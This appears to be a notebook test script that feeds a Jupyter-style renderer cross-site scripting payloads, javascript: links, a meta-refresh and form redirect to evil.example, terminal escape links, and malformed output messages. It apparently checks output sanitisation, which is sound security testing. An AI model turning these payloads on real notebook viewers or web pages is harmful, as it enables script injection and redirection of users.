# %% setup
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display

PAYLOAD = "<script>alert('owned')</script><img src=x onerror=alert('owned')>"

# %% attack: HTML with a script
display(HTML(PAYLOAD))

# %% attack: JavaScript
display(Javascript("alert('owned')"))

# %% attack: Markdown with a script
display(Markdown(PAYLOAD + "\n[x](javascript:alert('owned'))"))

# %% attack: SVG with a handler
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('owned')\"><script>alert('owned')</script></svg>"))

# %% attack: LaTeX with a link
display(Latex(r"$\href{javascript:alert('owned')}{x}$" + PAYLOAD))

# %% attack: a script in plain text
print(PAYLOAD)
print("\x1b]8;;javascript:alert('owned')\x07link\x1b]8;;\x07")

# %% attack: a script as the message of an error
raise ValueError(PAYLOAD)

# %% attack: a picture that is none
display({"image/png": PAYLOAD, "image/jpeg": "\" onerror=\"alert('owned')", "text/plain": PAYLOAD}, raw=True)

# %% attack: a widget
display({"application/vnd.jupyter.widget-view+json": {"model_id": "owned"}, "application/vnd.custom+json": PAYLOAD}, raw=True)

# %% attack: a comm
get_ipython().kernel.comm_manager.targets["x"] = None
from comm import create_comm
create_comm(target_name="owned", data={"html": PAYLOAD})

# %% attack: a page that refreshes itself
display(HTML("<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example><form action=http://evil.example>"))

# %% attack: an update of somebody else's output
display(HTML("a"), display_id="points")
display(HTML(PAYLOAD), display_id="points", update=True)

# %% attack: a source cell with markup
# </code></pre><script>alert('owned')</script>
x = "</div></body><script>alert('owned')</script>"

# %% attack: kinds of data that are no kinds
for kind in ("text/html\r\nx", "", "a" * 5000, "image/svg+xml;base64", "TEXT/HTML", "text/plain; charset=x", "\ud800", "../../x", "image/png\x00"):
    display({kind: PAYLOAD, "text/plain": [PAYLOAD, ["x", {"y": None}]]}, raw=True, metadata={kind: {"isolated": True, "needs_background": PAYLOAD}})

# %% attack: outputs whose fields are no text
kernel = get_ipython().kernel
for kind, fields in (
    ("stream", {"name": ["stdout"], "text": {"x": PAYLOAD}}),
    ("stream", {"name": "owned", "text": [PAYLOAD, None]}),
    ("display_data", {"data": [PAYLOAD], "metadata": 5}),
    ("execute_result", {"data": {"text/plain": {"x": 1}}, "metadata": {}, "execution_count": "x"}),
    ("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": ["x"]}}),
    ("clear_output", {"wait": {"x": 1}}),
):
    kernel.session.send(kernel.iopub_socket, kind, fields, parent=kernel.get_parent())
